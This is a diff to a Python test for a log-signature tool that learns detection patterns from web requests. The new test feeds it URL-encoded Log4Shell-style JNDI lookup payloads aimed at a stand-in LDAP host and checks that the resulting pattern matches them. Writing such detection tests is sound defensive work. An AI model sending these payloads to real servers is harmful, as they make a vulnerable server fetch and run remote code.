@@ -1,4 +1,4 @@
-from codered.authoring.log_parts import choose_literal, draft_logs, find_pattern_hits
+from codered.authoring.log_parts import choose_literal, draft_logs, find_pattern_hits, write_request
 from codered.authoring.orders import LogLine
 from codered.authoring.request_patterns import generalise
 
@@ -33,3 +33,12 @@ def test_a_literal_stands_in_every_line_as_it_is() -> None:
     assert choose_literal(pattern, [b"x /a-long-name?b=one y"]) == "/a-long-name?b=one"
     assert choose_literal(pattern, [b"/A-LONG-NAME b=one", b"/a-long-name b=one"]) == "/a-long-name"
     assert choose_literal(pattern, [b"%2f%61"]) == ""
+
+
+def test_encoded_requests_give_a_pattern_over_what_they_mean() -> None:
+    lines = tuple(line(f"GET /x/%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.{number}%2Fa%7D") for number in (7, 8))
+    (part,), _ = draft_logs(lines, ())
+    assert part.sign["literals"] == ["jndi"]
+    assert r"\$\{jndi:ldap://" in part.sign["pattern"]
+    assert find_pattern_hits(part.sign["pattern"], [*(item.request for item in lines), part.requests[0][0]])
+    assert write_request("/a%u9090 %41<") == "/a%u9090%20%2541%3C"
